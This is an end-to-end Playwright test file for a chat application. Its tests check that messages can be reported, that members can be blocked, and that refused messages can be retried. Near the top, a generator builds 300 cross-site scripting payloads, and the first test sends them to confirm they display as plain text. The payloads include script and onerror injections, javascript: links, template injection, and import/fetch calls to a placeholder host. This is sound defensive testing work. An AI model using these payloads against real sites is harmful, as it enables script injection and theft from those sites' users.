import { findContact } from '@parlance/contract/contact-text';
import { expect, type Locator } from '@playwright/test';
import { chooseMessage, messageField, messageRow, sendByApi, signInToChat, write } from './conversations.ts';
import { journey } from './journey.ts';
import { extremeViews } from './layout.ts';
import { createMember, signIn } from './people.ts';

/** Distinct XSS payloads for every context. */
function xssPayloads(count: number): string[] {
  const calls = ['alert(1)', 'window.__xss=1', 'import("//x.example")', 'fetch("//x.example")', 'eval("1")'];
  const wrappers: Array<(call: string, nth: number) => string> = [
    (call, nth) => `<script>${call}//${nth}</script>`,
    (call, nth) => `<img src=x${nth} onerror='${call}'>`,
    (call, nth) => `"><svg/onload=${call}>${nth}`,
    (call, nth) => `javascript:${call}//${nth}`,
    (call, nth) => `<a href="javascript:${call}">${nth}</a>`,
    (call, nth) => `{{constructor.constructor('${call}')()}}${nth}`,
    (call, nth) => `<iframe srcdoc="<script>${call}</script>">${nth}`,
    (call, nth) => `&lt;script&gt;${call}&lt;/script&gt;${nth}`,
    (call, nth) => `\${${call}}${nth}`,
    (call, nth) => `https://x.example/"onmouseover="${call}"${nth}`,
    (call, nth) => `<math><mtext><style><img src=x onerror=${call}>${nth}`,
    (call, nth) => `\u202e<b onclick=${call}>${nth}\u202c`,
  ];
  return Array.from({ length: count }, (_, nth) => {
    const wrap = wrappers[nth % wrappers.length];
    const call = calls[Math.floor(nth / wrappers.length) % calls.length];
    if (!wrap || !call) throw new Error('no payload');
    return wrap(call, nth);
  });
}

/**
 * Scrolls up to the first message and returns the texts of all rows. Only some rows exist at a time: the uppermost one moves to the
 * bottom edge, so that the next ones follow it without a gap, however slowly they are rendered.
 */
async function textsUpTo(scroller: Element, first: string): Promise<string[]> {
  const texts = new Set<string>();
  while (!texts.has(first)) {
    const rows = scroller.querySelectorAll('[data-row]');
    for (const row of rows) texts.add(row.querySelector('p[dir]')?.textContent ?? '');
    rows[0]?.scrollIntoView({ block: 'end', behavior: 'instant' });
    await new Promise((resolve) => requestAnimationFrame(resolve));
  }
  return [...texts];
}

async function edgesOf(part: Locator): Promise<{ top: number; bottom: number }> {
  const { y = Number.NaN, height = Number.NaN } = (await part.boundingBox()) ?? {};
  return { top: y, bottom: y + height };
}

journey('300 script injections are shown as text', async ({ page, server, faults }) => {
  journey.slow();
  const [ana, mallory] = [await createMember(server, 'Ana'), await createMember(server, 'Mallory')];
  const payloads = xssPayloads(300);
  // Before an answer a stranger can send only a few messages, and those with links wait among the requests.
  await sendByApi(ana, mallory, ['Hello']);
  await sendByApi(mallory, ana, payloads);
  page.on('dialog', (dialog) => {
    throw new Error(`a dialog opened: ${dialog.message()}`);
  });
  await signIn(page, ana, '/chats');

  // A name with contact details is refused.
  const names = payloads
    .filter((payload) => payload.length <= 60 && !/[\u202c\u202e]/.test(payload) && !findContact(payload))
    .slice(0, 12);
  for (const name of names) {
    await mallory.client.calls.updateUser({ name });
    await page.goto('/chats');
    const entry = page.getByRole('listitem').filter({ hasText: name });
    await expect(entry).toBeVisible();
    await entry.getByRole('link').click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
  }

  const messages = page.getByRole('region', { name: 'Messages', exact: true });
  // While messages are unread, the conversation opens at the first of them.
  await expect(async () => {
    await messages.evaluate((scroller) => scroller.scrollTo(0, scroller.scrollHeight));
    await expect(messageRow(page, payloads.at(-1) ?? '')).toBeVisible({ timeout: 1000 });
  }).toPass();
  const seen = await messages.evaluate(textsUpTo, 'Hello');
  expect(payloads.filter((payload) => !seen.includes(payload))).toEqual([]);
  const foreign = await page.evaluate(() => ({
    marks: '__xss' in window,
    elements: document.querySelectorAll('main :is(script, iframe, math, [onerror], [onload], [onclick])')
      .length,
    hrefs: [...document.querySelectorAll<HTMLAnchorElement>('[data-row] a')].filter(
      (link) => !/^https?:$/.test(link.protocol),
    ).length,
  }));
  expect(foreign).toEqual({ marks: false, elements: 0, hrefs: 0 });
  faults.check();
});

journey(
  'a message can be reported and its sender blocked from the conversation',
  async ({ page, server, expectAccessible }) => {
    journey.slow();
    const [ana, ben] = [await createMember(server, 'Ana'), await createMember(server, 'Ben')];
    await sendByApi(
      ben,
      ana,
      extremeViews.map(({ name }) => `send me money ${name}`),
    );
    await signInToChat(page, ana, ben);
    // Four lines make the composer grow.
    await messageField(page).fill('one\ntwo\nthree\nfour');
    for (const { name, viewport } of extremeViews) {
      await page.setViewportSize(viewport);
      await chooseMessage(page, `send me money ${name}`);
      await page.getByRole('button', { name: 'Report message' }).click();
      await page.getByLabel('What is wrong with it?').selectOption('scam');
      await expectAccessible();
      await page.getByRole('button', { name: 'Report', exact: true }).click();
      // A toast stands above the bar where messages are written, in the lower half of the window.
      const toast = page.getByRole('region', { name: 'Announcements' }).getByRole('dialog');
      await expect(toast).toContainText('Thank you. The message was reported.');
      await expect
        .poll(async () => (await edgesOf(toast)).bottom)
        .toBeLessThan((await edgesOf(messageField(page))).top);
      expect((await edgesOf(toast)).bottom).toBeGreaterThan(viewport.height / 2);
      await toast.getByLabel('Close').click();
      await expect(toast).toHaveCount(0);
    }
    await page.setViewportSize({ width: 1280, height: 800 });
    await messageField(page).fill('');

    await page.getByRole('button', { name: 'More' }).click();
    await page.getByRole('menuitem', { name: 'Block User' }).click();
    await expect(page.getByText('Neither of you can write to the other.')).toBeVisible();
    await expect(messageField(page)).toBeHidden();
    await page.getByRole('button', { name: 'Unblock User' }).click();
    await expect(messageField(page)).toBeVisible();

    // The chat with a blocked member shows no prompt to say hello.
    const eve = await createMember(server, 'Eve');
    await page.goto(`/chat/${eve.userId}`);
    await expect(page.getByText('Say hello to Eve')).toBeVisible();
    await ana.client.calls.blockUser({ userId: eve.userId });
    await page.reload();
    await expect(page.getByText('No messages yet')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Unblock User' })).toBeVisible();
    await expect(page.getByText('Say hello to Eve')).toHaveCount(0);
  },
);

journey(
  'a refused message stays with its reason, and can be sent again or deleted',
  async ({ page, server, faults }) => {
    journey.slow();
    // The page may request topics after the block.
    faults.allow(/403 .*\/topics/);
    const [ana, ben] = [await createMember(server, 'Ana'), await createMember(server, 'Ben')];
    await signInToChat(page, ana, ben);
    await ben.client.calls.blockUser({ userId: ana.userId });
    await write(page, 'can you hear me?');
    await expect(messageRow(page, 'can you hear me?')).toContainText('One of you has blocked the other.');
    await page.reload();
    await expect(messageRow(page, 'can you hear me?')).toContainText('Not sent');
    await ben.client.calls.unblockUser({ userId: ana.userId });
    await page.getByRole('button', { name: 'Retry' }).click();
    await expect(messageRow(page, 'can you hear me?')).toContainText('Sent');
    await ben.client.calls.blockUser({ userId: ana.userId });
    await write(page, 'and now?');
    await page.getByRole('button', { name: 'Delete' }).click();
    await expect(messageRow(page, 'and now?')).toHaveCount(0);
  },
);
